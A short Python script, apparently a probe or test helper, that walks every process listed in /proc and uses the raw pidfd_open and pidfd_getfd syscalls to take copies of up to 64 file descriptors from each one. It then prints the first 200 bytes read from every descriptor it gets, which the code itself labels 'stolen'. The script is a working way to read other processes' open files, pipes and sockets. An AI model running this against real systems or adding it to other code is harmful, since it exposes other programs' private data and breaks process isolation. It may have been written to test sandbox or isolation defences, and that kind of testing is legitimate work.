"""Takes descriptors out of other processes with pidfd_getfd."""

import ctypes
import os
import sys

print(sys.argv[1], flush=True)
libc = ctypes.CDLL(None, use_errno=True)
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    handle = libc.syscall(434, int(pid), 0)
    for number in range(64):
        stolen = libc.syscall(438, handle, number, 0)
        if stolen >= 0:
            try:
                print(os.pread(stolen, 200, 0))
            except OSError:
                pass
            os.close(stolen)
